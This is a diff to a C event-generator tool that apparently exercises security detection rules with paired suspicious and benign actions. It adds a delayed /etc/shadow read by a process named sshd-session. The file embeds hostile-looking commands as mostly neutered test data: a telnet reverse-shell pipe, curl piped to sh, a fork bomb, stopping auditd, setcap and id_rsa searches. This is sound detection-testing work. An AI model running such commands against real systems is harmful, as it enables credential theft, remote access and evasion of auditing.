@@ -48,6 +48,7 @@
 #define FAKEDIR "/run/saker-eventgen"
 #define NOOP_ENV "SAKER_EVENTGEN_NOOP"
 #define SELFDEL_ENV "SAKER_EVENTGEN_UNLINK_SELF"
+#define READ_AFTER_ENV "SAKER_EVENTGEN_READ_AFTER" /* SECONDS:PATH */
 
 enum where { ANY, HOST, CONTAINER };
 
@@ -126,12 +127,12 @@ static char **env_plus(const char *var)
 	return env;
 }
 
-/* Run this program under the name `name` with the given arguments: it exits
- * at once (SAKER_EVENTGEN_NOOP), so only the command line is seen. */
-static int fake_as(const char *comm_of_parent, const char *name, const char *const args[])
+/* Run this program under the name `name` with the given arguments and one
+ * more environment variable, which says what the copy does. */
+static int fake_env(const char *comm_of_parent, const char *name, const char *var, const char *const args[])
 {
 	char path[256], *argv[16];
-	char **envp = env_plus(NOOP_ENV "=1");
+	char **envp = env_plus(var);
 	int n = 0, rc;
 
 	/* not under /tmp: a program run from there raises a rule of its own */
@@ -148,6 +149,12 @@ static int fake_as(const char *comm_of_parent, const char *name, const char *con
 	unlink(path);
 	rmdir(FAKEDIR);
 	return rc;
+}
+
+/* ... and SAKER_EVENTGEN_NOOP: it exits at once, only its command line is seen */
+static int fake_as(const char *comm_of_parent, const char *name, const char *const args[])
+{
+	return fake_env(comm_of_parent, name, NOOP_ENV "=1", args);
 }
 
 #define FAKE(name, ...) fake_as(NULL, name, (const char *const[]){ __VA_ARGS__, NULL })
@@ -605,33 +612,25 @@ static int n_mkfifo_reverse_shell(void) { return sh("true || mkfifo " TMPDIR "/f
 static int a_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 4444 | /bin/sh | telnet 127.0.0.1 4445"); }
 static int n_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 25"); }
 
-static int a_curl_pipe_sh(void)
+/* sh -c 'curl ARGS | consumer' with a no-op curl */
+static int curl_pipe(const char *args_and_consumer)
 {
+	char cmd[256];
 	int rc;
 
 	mkdir(FAKEDIR, 0700);
 	unlink(FAKEDIR "/curl");
 	if (symlink(self_exe, FAKEDIR "/curl"))
 		return -1;
-	rc = sh(NOOP_ENV "=1 " FAKEDIR "/curl -fsSL http://127.0.0.1:9/install.sh | sh");
+	snprintf(cmd, sizeof(cmd), NOOP_ENV "=1 " FAKEDIR "/curl %s", args_and_consumer);
+	rc = sh(cmd);
 	unlink(FAKEDIR "/curl");
 	rmdir(FAKEDIR);
 	return rc;
 }
 
-static int n_curl_pipe_sh(void)
-{
-	int rc;
-
-	mkdir(FAKEDIR, 0700);
-	unlink(FAKEDIR "/curl");
-	if (symlink(self_exe, FAKEDIR "/curl"))
-		return -1;
-	rc = sh(NOOP_ENV "=1 " FAKEDIR "/curl -fsSL -o /dev/null http://127.0.0.1:9/x | cat");
-	unlink(FAKEDIR "/curl");
-	rmdir(FAKEDIR);
-	return rc;
-}
+static int a_curl_pipe_sh(void) { return curl_pipe("-fsSL http://127.0.0.1:9/install.sh | sh"); }
+static int n_curl_pipe_sh(void) { return curl_pipe("-fsSL -o /dev/null http://127.0.0.1:9/x | cat"); }
 
 /* ------------------------------------------------------------- impact and miners */
 
@@ -644,55 +643,42 @@ static int n_wipe(void) { return FAKE("rm", "-rf", TMPDIR "/build"); }
 static int a_fork_bomb(void) { return FAKE("bash", "-c", ":(){ :|:& };:"); }
 static int n_fork_bomb(void) { return FAKE("bash", "-c", "echo : | cat"); }
 
-static int a_ransom_rename(void)
+/* a temporary file renamed to a new name, then removed */
+static int rename_temp(const char *to)
 {
 	int rc;
 
 	tmpdir();
 	write_file(TMPDIR "/report.txt", O_TRUNC, 0600);
-	rc = rename(TMPDIR "/report.txt", TMPDIR "/report.txt.locked");
-	unlink(TMPDIR "/report.txt.locked");
+	rc = rename(TMPDIR "/report.txt", to);
+	unlink(to);
 	unlink(TMPDIR "/report.txt");
 	return rc;
 }
 
-static int n_ransom_rename(void)
-{
-	int rc;
-
-	tmpdir();
-	write_file(TMPDIR "/report.txt", O_TRUNC, 0600);
-	rc = rename(TMPDIR "/report.txt", TMPDIR "/report.txt.bak");
-	unlink(TMPDIR "/report.txt.bak");
-	return rc;
-}
+static int a_ransom_rename(void) { return rename_temp(TMPDIR "/report.txt.locked"); }
+static int n_ransom_rename(void) { return rename_temp(TMPDIR "/report.txt.bak"); }
 
 /* ------------------------------------------------------------- defense evasion (commands) */
 
 static int a_disable_security(void) { return FAKE("systemctl", "stop", "auditd"); }
 static int n_disable_security(void) { return FAKE("systemctl", "status", "auditd"); }
 
-static int a_timestomp(void)
+/* touch [-d DATE] on a temporary file, then remove it */
+static int touch_temp(const char *date)
 {
-	char *argv[] = { (char *)"/usr/bin/touch", (char *)"-d", (char *)"2001-01-01 00:00:00", (char *)TMPDIR "/ts", NULL };
+	char *with[] = { (char *)"/usr/bin/touch", (char *)"-d", (char *)date, (char *)TMPDIR "/ts", NULL };
+	char *without[] = { (char *)"/usr/bin/touch", (char *)TMPDIR "/ts", NULL };
 	int rc;
 
 	tmpdir();
-	rc = spawn(NULL, argv, -1);
+	rc = spawn(NULL, date ? with : without, -1);
 	unlink(TMPDIR "/ts");
 	return rc;
 }
 
-static int n_timestomp(void)
-{
-	char *argv[] = { (char *)"/usr/bin/touch", (char *)TMPDIR "/ts", NULL };
-	int rc;
-
-	tmpdir();
-	rc = spawn(NULL, argv, -1);
-	unlink(TMPDIR "/ts");
-	return rc;
-}
+static int a_timestomp(void) { return touch_temp("2001-01-01 00:00:00"); }
+static int n_timestomp(void) { return touch_temp(NULL); }
 
 static int a_setcap(void) { return FAKE("setcap", "cap_setuid+ep", TMPDIR "/python3"); }
 static int n_setcap(void) { return FAKE("getcap", "/usr/bin/ping"); }
@@ -709,25 +695,31 @@ static int n_container_scan(void) { return FAKE("ping", "-c", "1", "127.0.0.1");
 static int a_container_pkg(void) { return FAKE("apt-get", "install", "-y", "nmap"); }
 static int n_container_pkg(void) { return FAKE("apt-cache", "policy", "nmap"); }
 
-static int a_search_keys(void)
+/* find -name PATTERN in a path that does not exist */
+static int find_name(const char *pattern)
 {
-	char *argv[] = { (char *)"/usr/bin/find", (char *)TMPDIR "-none", (char *)"-name", (char *)"id_rsa", NULL };
+	char *argv[] = { (char *)"/usr/bin/find", (char *)TMPDIR "-none", (char *)"-name", (char *)pattern, NULL };
 
 	spawn(NULL, argv, -1);
 	return 0;
 }
 
-static int n_search_keys(void)
-{
-	char *argv[] = { (char *)"/usr/bin/find", (char *)TMPDIR "-none", (char *)"-name", (char *)"*.c", NULL };
-
-	spawn(NULL, argv, -1);
-	return 0;
-}
+static int a_search_keys(void) { return find_name("id_rsa"); }
+static int n_search_keys(void) { return find_name("*.c"); }
 
 /* ------------------------------------------------------------- credential access (files) */
 
 static int a_read_shadow(void) { return read_path("/etc/shadow"); }
+/* a copy named sshd-session reads /etc/shadow 61 s after it started (an
+ * sshd-session reads it at once, at login) */
+static int a_trusted_late_read(void)
+{
+	return fake_env(NULL, "sshd-session", READ_AFTER_ENV "=61:/etc/shadow", (const char *const[]){ "-R", NULL });
+}
+static int n_trusted_late_read(void)
+{
+	return fake_env(NULL, "sshd-session", READ_AFTER_ENV "=0:/etc/shadow", (const char *const[]){ "-R", NULL });
+}
 static int n_read_shadow(void) { return read_path("/etc/passwd"); }
 static int a_read_ssh(void) { return with_file(TMPDIR "/.ssh/config", true); }
 static int n_read_ssh(void) { return with_file(TMPDIR "/.ssh/known_hosts", true); }
@@ -752,27 +744,20 @@ static int a_proc_environ(void)
 
 static int n_proc_environ(void) { return read_path("/proc/self/environ"); }
 
-static int a_symlink_sensitive(void)
+/* a temporary symlink to target, then removed */
+static int symlink_temp(const char *target)
 {
 	int rc;
 
 	tmpdir();
-	unlink(TMPDIR "/shadow-link");
-	rc = symlink("/etc/shadow", TMPDIR "/shadow-link");
-	unlink(TMPDIR "/shadow-link");
+	unlink(TMPDIR "/link");
+	rc = symlink(target, TMPDIR "/link");
+	unlink(TMPDIR "/link");
 	return rc;
 }
 
-static int n_symlink_sensitive(void)
-{
-	int rc;
-
-	tmpdir();
-	unlink(TMPDIR "/passwd-link");
-	rc = symlink("/etc/passwd", TMPDIR "/passwd-link");
-	unlink(TMPDIR "/passwd-link");
-	return rc;
-}
+static int a_symlink_sensitive(void) { return symlink_temp("/etc/shadow"); }
+static int n_symlink_sensitive(void) { return symlink_temp("/etc/passwd"); }
 
 static int a_hardlink_sensitive(void)
 {
@@ -910,27 +895,20 @@ static int n_init_script(void) { return open_dir("/etc/init.d"); }
 
 /* ------------------------------------------------------------- privilege escalation */
 
-static int a_setuid_bit(void)
-{
-	int rc;
-
-	tmpdir();
-	write_file(TMPDIR "/suid", O_TRUNC, 0755);
-	rc = chmod(TMPDIR "/suid", 04755);
-	unlink(TMPDIR "/suid");
-	return rc;
-}
-
-static int n_setuid_bit(void)
+/* a temporary file given a mode, then removed */
+static int chmod_temp(mode_t mode)
 {
 	int rc;
 
 	tmpdir();
 	write_file(TMPDIR "/suid", O_TRUNC, 0644);
-	rc = chmod(TMPDIR "/suid", 0755);
+	rc = chmod(TMPDIR "/suid", mode);
 	unlink(TMPDIR "/suid");
 	return rc;
 }
+
+static int a_setuid_bit(void) { return chmod_temp(04755); }
+static int n_setuid_bit(void) { return chmod_temp(0755); }
 
 static int a_non_sudo_setuid(void)
 {
@@ -1066,13 +1044,14 @@ static int n_core_pattern(void) { return read_path("/proc/sys/kernel/core_patter
 static int a_kernel_hardening(void) { return touch_for_write("/proc/sys/kernel/randomize_va_space"); }
 static int n_kernel_hardening(void) { return read_path("/proc/sys/kernel/randomize_va_space"); }
 
-static int a_runtime_socket(void)
+/* connect to a unix socket of the given name it listens on itself */
+static int unix_self_connect(const char *name)
 {
 	struct sockaddr_un a = { .sun_family = AF_UNIX };
 	int srv, s, rc;
 
 	tmpdir();
-	snprintf(a.sun_path, sizeof(a.sun_path), TMPDIR "/docker.sock");
+	snprintf(a.sun_path, sizeof(a.sun_path), TMPDIR "/%s", name);
 	unlink(a.sun_path);
 	srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
 	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
@@ -1086,25 +1065,8 @@ static int a_runtime_socket(void)
 	return rc;
 }
 
-static int n_runtime_socket(void)
-{
-	struct sockaddr_un a = { .sun_family = AF_UNIX };
-	int srv, s, rc;
-
-	tmpdir();
-	snprintf(a.sun_path, sizeof(a.sun_path), TMPDIR "/app.sock");
-	unlink(a.sun_path);
-	srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
-		return -1;
-	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	rc = s < 0 ? -1 : connect(s, (struct sockaddr *)&a, sizeof(a));
-	if (s >= 0)
-		close(s);
-	close(srv);
-	unlink(a.sun_path);
-	return rc;
-}
+static int a_runtime_socket(void) { return unix_self_connect("docker.sock"); }
+static int n_runtime_socket(void) { return unix_self_connect("app.sock"); }
 
 static int do_mount(void)
 {
@@ -1367,6 +1329,7 @@ static const struct action actions[] = {
 	{ "container_package", "T1072", CONTAINER, "Package management process launched in container", a_container_pkg, n_container_pkg, "a no-op named apt-get with install" },
 	/* credential access */
 	{ "read_shadow", "T1003.008", ANY, "Read sensitive file untrusted", a_read_shadow, n_read_shadow, "opens /etc/shadow for reading" },
+	{ "trusted_late_read", "T1003.008", ANY, "Read sensitive file trusted after startup", a_trusted_late_read, n_trusted_late_read, "a copy of itself named sshd-session reads /etc/shadow 61 s after its start" },
 	{ "search_keys", "T1552.001", ANY, "Search private keys or passwords", a_search_keys, n_search_keys, "runs find -name id_rsa in an empty path" },
 	{ "read_ssh", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_ssh, n_read_ssh, "reads a file in a temporary .ssh directory" },
 	{ "read_private_key", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_private_key, n_read_private_key, "reads a temporary file named id_ed25519" },
@@ -1387,6 +1350,12 @@ static const struct action actions[] = {
 static const char *where_name(enum where w)
 {
 	return w == HOST ? "host" : w == CONTAINER ? "container" : "any";
+}
+
+/* takes a minute: --all runs it alongside the others */
+static bool is_slow(const struct action *a)
+{
+	return a->run == a_trusted_late_read;
 }
 
 static int run_one(const struct action *a, bool near)
@@ -1411,6 +1380,14 @@ int main(int argc, char **argv)
 {
 	if (getenv(NOOP_ENV))
 		return 0;
+	if (getenv(READ_AFTER_ENV)) { /* SECONDS:PATH */
+		char *colon = strchr(getenv(READ_AFTER_ENV), ':');
+
+		if (!colon)
+			return 1;
+		sleep(atoi(getenv(READ_AFTER_ENV)));
+		return read_path(colon + 1) ? 1 : 0;
+	}
 	if (getenv(SELFDEL_ENV)) {
 		char p[PATH_MAX];
 		ssize_t n = readlink("/proc/self/exe", p, sizeof(p) - 1);
@@ -1434,9 +1411,23 @@ int main(int argc, char **argv)
 	}
 	if (argc == 2 && (!strcmp(argv[1], "--all") || !strcmp(argv[1], "--near-all"))) {
 		bool near = !strcmp(argv[1], "--near-all");
+		pid_t bg[8];
+		int nslow = 0;
 
+		/* slow actions first, each in a child, waited for at the end */
+		for (const struct action *a = actions; a->name; a++) {
+			if (!is_slow(a) || near || nslow == 8)
+				continue;
+			bg[nslow] = fork();
+			if (bg[nslow] == 0)
+				_exit(run_one(a, near));
+			nslow += bg[nslow] > 0;
+		}
 		for (const struct action *a = actions; a->name; a++)
-			run_one(a, near);
+			if (!is_slow(a) || near)
+				run_one(a, near);
+		while (nslow > 0)
+			quiet_wait(bg[--nslow]);
 		cleanup();
 		return 0;
 	}
